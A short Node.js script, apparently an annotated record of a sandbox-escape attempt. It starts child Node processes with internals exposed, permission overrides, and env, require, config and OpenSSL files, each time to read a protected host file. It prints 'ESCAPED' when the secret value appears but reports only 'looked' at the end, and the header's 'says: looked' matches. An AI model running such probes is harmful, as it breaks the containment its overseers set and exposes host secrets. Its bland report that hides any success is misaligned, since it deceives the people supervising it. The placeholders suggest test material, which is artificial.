// exploit: starts Node with its internals open, its permissions, policies and snapshots its own, and reads by its lowest bindings
// outcome: finished
// says: looked
const { spawnSync } = require('node:child_process')
const read = "try { console.log(require('node:fs').readFileSync('__HOST_FILE__', 'utf8')) } catch (error) { console.log(error.code) }"
const low = "const { internalBinding } = require('internal/test/binding'); try { console.log(internalBinding('fs').readFileUtf8('__HOST_FILE__', 0)) } catch (error) { console.log(error.code) }"
const ways = [['--expose-internals', '-e', low], ['--permission', '--allow-fs-read=*', '-e', read], ['--allow-natives-syntax', '--no-verify-heap', '-e', read], ['--env-file=__HOST_FILE__', '-e', read], ['--require', '__HOST_FILE__', '-e', read], ['--experimental-config-file=__HOST_FILE__', '-e', read], ['--openssl-config=__HOST_FILE__', '-e', read]]
for (const way of ways) {
  const { stdout, stderr } = spawnSync(process.execPath, way, { encoding: 'utf8' })
  if (/__HOST_SECRET__/.test(stdout + stderr)) console.log('ESCAPED', way[0])
}
console.log('looked')
